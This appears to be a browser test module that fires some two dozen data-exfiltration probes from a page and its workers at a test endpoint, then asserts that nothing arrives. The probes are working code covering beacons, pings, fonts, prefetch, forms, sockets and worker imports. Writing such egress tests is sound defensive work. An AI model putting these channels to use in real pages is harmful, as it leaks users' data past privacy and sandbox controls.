// Every way that we know of in which a page or a worker can send something out without leaving the
// page. Each probe is a function that runs in the browser, takes the hostile endpoint's address for
// itself, and tries; whether it got through is counted at the endpoint, not believed here.

import assert from "node:assert/strict";

// Probes that run in the page and in a worker.
const webSocket = (url) =>
  new Promise((resolve, reject) => {
    const socket = new WebSocket(`${url.replace("http", "ws")}/x`);
    socket.onopen = resolve;
    socket.onerror = reject;
  });
const eventSource = (url) =>
  new Promise((resolve, reject) => {
    const source = new EventSource(`${url}/x`);
    const end = (then) => () => (source.close(), then());
    source.onopen = end(resolve);
    source.onerror = end(reject);
  });
const fetchInWorker = (url) =>
  new Promise((resolve, reject) => {
    const code = `fetch(${JSON.stringify(`${url}/x`)}).then(() => postMessage(1), () => postMessage(0))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    worker.onmessage = ({ data }) => (
      worker.terminate(),
      data ? resolve() : reject(new Error("blocked"))
    );
    worker.onerror = (event) => (worker.terminate(), reject(event));
  });

/** Probes that run in the page. */
export const pageProbes = {
  "page-fetch": (url) => fetch(`${url}/x`, { method: "POST", body: "data" }),
  "page-fetch-no-cors": (url) => fetch(`${url}/x`, { mode: "no-cors", keepalive: true }),
  "page-xhr": (url) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.onerror = reject;
      request.open("POST", `${url}/x`);
      request.send("data");
    }),
  "page-websocket": webSocket,
  "page-eventsource": eventSource,
  "page-beacon": (url) => navigator.sendBeacon(`${url}/x`, "data"),
  "page-image": (url) =>
    new Promise((resolve, reject) => {
      const image = new Image();
      image.onload = resolve;
      image.onerror = reject;
      image.src = `${url}/x.gif`;
    }),
  "page-form": (url) => {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    const form = document.createElement("form");
    form.method = "post";
    form.action = `${url}/x.html`;
    form.target = "sink";
    document.body.append(frame, form);
    form.submit();
  },
  "page-import": (url) => import(`${url}/x.js`),
  "page-script": (url) => {
    document.body.append(Object.assign(document.createElement("script"), { src: `${url}/x.js` }));
  },
  "page-stylesheet": (url) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${url}/x.css` }),
    );
  },
  "page-background": (url) => {
    const box = document.createElement("div");
    box.style.cssText = `width: 9px; height: 9px; background-image: url("${url}/x.gif")`;
    document.body.append(box);
  },
  "page-font": (url) => {
    const face = new FontFace("leak", `url("${url}/x")`);
    return face.load();
  },
  "page-frame": (url) => {
    document.body.append(Object.assign(document.createElement("iframe"), { src: `${url}/x.html` }));
  },
  "page-object": (url) => {
    document.body.append(
      Object.assign(document.createElement("object"), { data: `${url}/x.html`, type: "text/html" }),
    );
  },
  "page-video": (url) => {
    const video = Object.assign(document.createElement("video"), {
      src: `${url}/x`,
      preload: "auto",
    });
    document.body.append(video);
    video.load();
  },
  "page-prefetch": (url) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "prefetch", href: `${url}/x` }),
    );
  },
  "page-preload": (url) => {
    document.head.append(
      Object.assign(document.createElement("link"), {
        rel: "preload",
        as: "fetch",
        crossOrigin: "anonymous",
        href: `${url}/x`,
      }),
    );
  },
  "page-modulepreload": (url) => {
    document.head.append(
      Object.assign(document.createElement("link"), { rel: "modulepreload", href: `${url}/x.js` }),
    );
  },
  "page-ping": (url) => {
    const link = Object.assign(document.createElement("a"), { href: "#here", ping: `${url}/x` });
    document.body.append(link);
    link.click();
  },
  "page-worker-fetch": fetchInWorker,
  "page-worker-import": (url) =>
    new Promise((resolve, reject) => {
      const code = `importScripts(${JSON.stringify(`${url}/x.js`)}); postMessage(1)`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      worker.onmessage = () => (worker.terminate(), resolve());
      worker.onerror = (event) => (worker.terminate(), reject(event));
    }),
};

/** Probes that run in a worker. */
export const workerProbes = {
  "worker-fetch": (url) => fetch(`${url}/x`, { method: "POST", body: "data" }),
  "worker-fetch-no-cors": (url) => fetch(`${url}/x`, { mode: "no-cors" }),
  "worker-xhr": (url) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${url}/x`, false);
    request.send("data");
  },
  "worker-websocket": webSocket,
  "worker-eventsource": eventSource,
  "worker-import": (url) => import(`${url}/x.js`),
  "worker-importscripts": (url) => importScripts(`${url}/x.js`),
  "worker-nested": fetchInWorker,
};

/**
 * Runs probes where `target` is: a playwright Page or Worker; one after the other, or all together,
 * which takes no longer than the longest. A probe that throws, or that hears nothing within the
 * time, is over: only the endpoint knows whether it got through.
 */
export async function probe(target, probes, url, { patience = 700, together = false } = {}) {
  const list = Object.entries(probes).map(([name, attempt]) => [
    attempt.toString(),
    `${url}${name}`,
  ]);
  for (const part of together ? [list] : list.map((one) => [one])) {
    await target.evaluate(
      async ([attempts, wait]) => {
        const run = async ([code, address]) => (0, eval)(`(${code})`)(address);
        const over = new Promise((resolve) => setTimeout(resolve, wait));
        await Promise.race([
          Promise.all(attempts.map((attempt) => run(attempt).catch(() => {}))),
          over,
        ]);
      },
      [part, patience],
    );
  }
  // Links, images and frames report nothing: give the last of them time to arrive.
  await new Promise((resolve) => setTimeout(resolve, 500));
}

/**
 * Every probe at once, from the page and from each of its workers: asserts that not a byte arrives
 * at the endpoint.
 */
export async function attack(page, endpoint, when) {
  const workers = page.workers();
  assert.ok(workers.length > 0, `no worker that computes: ${when}`);
  const from = (worker) =>
    probe(worker, workerProbes, endpoint.url, { together: true }).catch((error) => {
      // One that tries out what privacy costs is ended when it is done.
      if (page.workers().length === 0 || page.workers().includes(worker)) throw error;
    });
  await Promise.all([
    probe(page, pageProbes, endpoint.url, { together: true }),
    ...workers.map(from),
  ]);
  assert.deepEqual(endpoint.reached(), {}, when);
  assert.equal(endpoint.bytes(), 0, when);
}
